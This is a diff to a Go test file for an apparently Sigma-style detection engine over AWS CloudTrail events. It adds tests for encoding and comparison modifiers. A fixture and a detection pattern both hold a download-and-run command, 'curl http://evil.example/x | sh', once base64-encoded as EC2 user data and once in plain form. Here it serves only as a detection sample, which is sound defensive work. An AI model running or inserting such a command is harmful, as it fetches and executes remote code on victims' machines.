@@ -26,7 +26,7 @@ var events = map[string]string{
 	"err":        `{"eventName":"DeleteTrail","eventSource":"cloudtrail.amazonaws.com","errorCode":"AccessDenied","userIdentity":{"type":"IAMUser","userName":"eve"},"sourceIPAddress":"2001:db8::1","eventTime":"2026-01-17T23:30:00Z"}`,
 }
 
-func openStore(t *testing.T) *store.Store {
+func openStore(t *testing.T, events map[string]string) *store.Store {
 	t.Helper()
 	var recs [][]byte
 	var ids []string
@@ -87,7 +87,7 @@ func indent(s string) string {
 }
 
 func TestSemantics(t *testing.T) {
-	st := openStore(t)
+	st := openStore(t, events)
 	cases := []struct {
 		name, detection string
 		params          sigma.Params
@@ -165,7 +165,7 @@ func TestSemantics(t *testing.T) {
 }
 
 func TestCompileErrors(t *testing.T) {
-	st := openStore(t)
+	st := openStore(t, events)
 	cases := []struct{ detection, want string }{
 		{"s: {eventName|bogus: x}\ncondition: s", "case.yml:4:7: unknown modifier \"bogus\""},
 		{"s: {eventName|contains|re: x}\ncondition: s", "modifier re must come first"},
@@ -188,3 +188,31 @@ func TestCompileErrors(t *testing.T) {
 }
 
 func timeSecond(i int) time.Duration { return time.Duration(i) * time.Second }
+
+// TestModifiersThatFire proves the encoding and comparison modifiers match what they should, not only that
+// they leave other events alone.
+func TestModifiersThatFire(t *testing.T) {
+	st := openStore(t, map[string]string{
+		"cli":   `{"eventName":"RunInstances","eventSource":"ec2.amazonaws.com","userAgent":"tool /quiet run","userIdentity":{"type":"IAMUser"},"requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==","count":"3"}}`,
+		"plain": `{"eventName":"RunInstances","eventSource":"ec2.amazonaws.com","userAgent":"tool run","userIdentity":{"type":"IAMUser"},"requestParameters":{"count":"12"}}`,
+	})
+	cases := []struct{ name, detection, want string }{
+		{"windash turns - into /", "s: {userAgent|windash|contains: ' -quiet'}\ncondition: s", "cli"},
+		{"base64offset finds text inside user data", "s: {requestParameters.userData|base64offset|contains: 'curl http://evil'}\ncondition: s", "cli"},
+		{"base64 of the whole value", "s: {requestParameters.userData|base64: \"#!/bin/bash\\ncurl http://evil.example/x | sh\"}\ncondition: s", "cli"},
+		{"cased matches the exact case", "s: {eventName|cased: RunInstances}\ncondition: s", "cli,plain"},
+		{"lt", "s: {requestParameters.count|lt: 10}\ncondition: s", "cli"},
+		{"exists false on a JSON path", "s: {eventSource: ec2.amazonaws.com, requestParameters.userData|exists: false}\ncondition: s", "plain"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got, err := match(t, st, c.detection, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.Join(got, ",") != c.want {
+				t.Errorf("matched %v, want %s", got, c.want)
+			}
+		})
+	}
+}
